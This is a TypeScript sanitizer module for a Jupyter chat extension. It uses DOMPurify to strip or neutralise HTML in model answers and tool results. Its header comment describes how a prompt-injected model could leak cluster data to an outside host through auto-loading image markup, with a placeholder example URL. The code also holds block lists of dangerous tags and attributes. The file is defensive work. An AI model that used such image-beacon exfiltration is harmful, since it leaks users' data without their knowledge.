/**
 * HTML from an answer or a tool result is data: nothing in it runs, styles the page, submits a
 * form, embeds a frame or makes the browser fetch anything. A log line or a prompt-injected
 * model could otherwise send cluster data to any host with `<img src="https://host/?k=...">`
 * or `![x](https://host/...)`, without a click.
 *
 * One DOMPurify pass (it parses into an inert document, where nothing loads) with hooks:
 * - images and other embedded resources (`<img>`, `srcset`, `<video poster>`, `<iframe>`,
 *   `<object>`, `<embed>`, ...) whose URL is not under the Jupyter server's own base URL or a
 *   `data:image/` URL become a visible link to that URL, which the user may click;
 * - `<style>`, `<link>`, `<meta>`, `<base>`, `<form>`, SVG and MathML go; `style` attributes
 *   stay only for table alignment; classes only for code highlighting;
 * - every link opens in a new tab with `rel="noopener noreferrer"`; `javascript:` and other
 *   script-capable URLs are dropped (DOMPurify), `ping` too.
 * The panel uses it as rendermime's sanitizer, the notebook widget after `marked`.
 */

import DOMPurify from 'dompurify';

/** Elements that would load something: their URL is offered as a link instead. */
const EMBEDS = new Set([
  'img',
  'image',
  'picture',
  'source',
  'video',
  'audio',
  'track',
  'iframe',
  'frame',
  'frameset',
  'embed',
  'object',
  'applet',
  'portal',
  'input',
  'link'
]);

/** Void embeds: the links take their place. */
const REPLACED = new Set(['img', 'image', 'input', 'link']);

/** Removed with everything inside (SVG, MathML): the resources inside are offered as links. */
const CONTAINERS = new Set(['svg', 'math']);

/** Attributes naming a resource that would be loaded; `href` only loads outside `<a>`. */
const RESOURCE_ATTRIBUTES = ['src', 'srcset', 'poster', 'data', 'href', 'xlink:href', 'background'];

const NODE_ELEMENT = 1;

const FORBID_TAGS = [
  'style',
  'link',
  'meta',
  'base',
  'form',
  'button',
  'select',
  'option',
  'textarea',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'portal',
  'video',
  'audio',
  'source',
  'track',
  'picture',
  'noscript',
  'template',
  'dialog'
];

const FORBID_ATTR = [
  'srcset',
  'poster',
  'background',
  'ping',
  'action',
  'formaction',
  'lowsrc',
  'dynsrc',
  'longdesc',
  'usemap',
  'form',
  'manifest',
  'codebase',
  'archive',
  'classid',
  'autofocus'
];

/** Table cell alignment, as Markdown renderers write it; any other inline style goes. */
const SAFE_STYLE = /^\s*text-align\s*:\s*(left|right|center|justify)\s*;?\s*$/i;

/** Code highlighting classes (marked, CodeMirror); other classes could borrow the page's CSS. */
const SAFE_CLASS = /^(language-|lang-|tok-|cm-|hljs|\u037c|jp-kchat-blocked$)/;

const SAFE_IMAGE_DATA = /^data:image\/[a-z0-9.+-]+[;,]/i;

/** The server's files and static assets; never `logout` (a GET that ends the session) or an API. */
const LOADABLE_PATHS = ['files/', 'static/'];

/**
 * Whether an embedded resource at `url` may load: a file or static asset under the Jupyter
 * server's own base URL (`server`, e.g. `https://hub.example.com/user/alice/`: not the hub, not
 * another user's server, not `logout`), or an image `data:` URL. Relative URLs resolve against
 * `base`, the page's.
 */
export function mayLoad(url: string, server: string, base: string): boolean {
  const trimmed = url.trim();
  if (SAFE_IMAGE_DATA.test(trimmed)) {
    return true;
  }
  try {
    const parsed = new URL(trimmed, base);
    const root = new URL(server);
    const prefix = root.href.endsWith('/') ? root.href : `${root.href}/`;
    return (
      (parsed.protocol === 'http:' || parsed.protocol === 'https:') &&
      parsed.origin === root.origin &&
      LOADABLE_PATHS.some(path => parsed.href.startsWith(prefix + path))
    );
  } catch {
    return false;
  }
}

/** Every URL named by an element's resource attributes (each `srcset` candidate included). */
function resourceUrls(element: Element, tag: string): string[] {
  const urls: string[] = [];
  for (const name of RESOURCE_ATTRIBUTES) {
    if ((name === 'href' || name === 'xlink:href') && (tag === 'a' || tag === 'area')) {
      continue;
    }
    const value = element.getAttribute(name);
    if (!value || !value.trim()) {
      continue;
    }
    if (name === 'srcset') {
      for (const candidate of value.split(',')) {
        const url = candidate.trim().split(/\s+/)[0];
        if (url) {
          urls.push(url);
        }
      }
    } else {
      urls.push(value.trim());
    }
  }
  return [...new Set(urls)];
}

/** A link the user may click, with the URL visible; only http(s) URLs are clickable. */
function blockedLink(doc: Document, url: string, label: string, base: string): Node {
  let href = '';
  try {
    const parsed = new URL(url, base);
    if (parsed.protocol === 'http:' || parsed.protocol === 'https:') {
      href = parsed.href;
    }
  } catch {
    href = '';
  }
  const text = `${label}: ${url}`;
  if (!href) {
    const span = doc.createElement('span');
    span.className = 'jp-kchat-blocked';
    span.textContent = text;
    return span;
  }
  const link = doc.createElement('a');
  link.className = 'jp-kchat-blocked';
  link.setAttribute('href', href);
  link.setAttribute('target', '_blank');
  link.setAttribute('rel', 'noopener noreferrer');
  link.setAttribute('referrerpolicy', 'no-referrer');
  link.setAttribute('title', 'Not loaded: kchat never fetches resources an answer points at');
  link.textContent = text;
  return link;
}

function label(element: Element, tag: string): string {
  const alt = (element.getAttribute('alt') ?? element.getAttribute('title') ?? '').trim();
  const kind = tag === 'img' || tag === 'image' || tag === 'picture' ? 'image' : tag;
  return alt ? `${kind} "${alt}"` : kind;
}

export interface ISafeHtmlOptions {
  /** The Jupyter server's base URL, absolute: resources under it may load. */
  server: string;
  /** Base URL for relative URLs (the page's; default `server`). */
  base?: string;
}

/** A sanitizer bound to one server; DOMPurify's hooks are per instance, so each gets its own. */
export class SafeHtml {
  constructor(options: ISafeHtmlOptions) {
    this._server = options.server;
    this._base = options.base ?? options.server;
    this._purify = DOMPurify(window);
    this._purify.addHook('uponSanitizeElement', (node, data) => this._element(node, data.tagName));
    this._purify.addHook('afterSanitizeAttributes', node => this._attributes(node));
  }

  sanitize(dirty: string): string {
    return this._purify.sanitize(dirty, {
      USE_PROFILES: { html: true },
      FORBID_TAGS,
      FORBID_ATTR,
      ALLOW_DATA_ATTR: false,
      ALLOW_UNKNOWN_PROTOCOLS: false
    }) as string;
  }

  /** Embeds that may not load are replaced (images) or preceded (the rest) by links to them. */
  private _element(node: Node, tag: string): void {
    if (node.nodeType !== NODE_ELEMENT || !(EMBEDS.has(tag) || CONTAINERS.has(tag))) {
      return;
    }
    const element = node as Element;
    const type = (element.getAttribute('type') ?? '').toLowerCase();
    if (tag === 'input' && type === 'checkbox') {
      return; // Markdown task lists
    }
    if (tag === 'input' && type !== 'image') {
      element.remove();
      return;
    }
    const src = element.getAttribute('src');
    if (tag === 'img' && src && mayLoad(src, this._server, this._base)) {
      return;
    }
    const named = [element, ...Array.from(element.querySelectorAll('*'))];
    const doc = element.ownerDocument;
    const links = doc.createDocumentFragment();
    for (const source of named) {
      if (this._offered.has(source)) {
        continue; // a `<picture>`'s `<source>` and `<img>` were offered with the picture
      }
      this._offered.add(source);
      const kind = source.tagName.toLowerCase();
      for (const url of resourceUrls(source, kind)) {
        if (!mayLoad(url, this._server, this._base)) {
          links.appendChild(blockedLink(doc, url, label(source, kind), this._base));
          links.appendChild(doc.createTextNode(' '));
        }
      }
    }
    if (REPLACED.has(tag)) {
      element.replaceWith(links);
    } else {
      element.parentNode?.insertBefore(links, element);
    }
  }

  private _attributes(node: Element): void {
    const style = node.getAttribute('style');
    if (style !== null && !SAFE_STYLE.test(style)) {
      node.removeAttribute('style');
    }
    const classes = node.getAttribute('class');
    if (classes !== null) {
      const kept = classes.split(/\s+/).filter(name => SAFE_CLASS.test(name));
      if (kept.length) {
        node.setAttribute('class', kept.join(' '));
      } else {
        node.removeAttribute('class');
      }
    }
    if (node.tagName === 'A' || node.tagName === 'AREA') {
      if (node.hasAttribute('href')) {
        node.setAttribute('target', '_blank');
        node.setAttribute('rel', 'noopener noreferrer');
        node.setAttribute('referrerpolicy', 'no-referrer');
      } else {
        node.removeAttribute('target');
      }
    }
    if (node.tagName === 'IMG') {
      node.setAttribute('referrerpolicy', 'no-referrer');
    }
  }

  private readonly _server: string;
  private readonly _base: string;
  /** Elements whose URLs are already offered: DOMPurify visits a removed embed's children. */
  private readonly _offered = new WeakSet<Element>();
  private readonly _purify: ReturnType<typeof DOMPurify>;
}
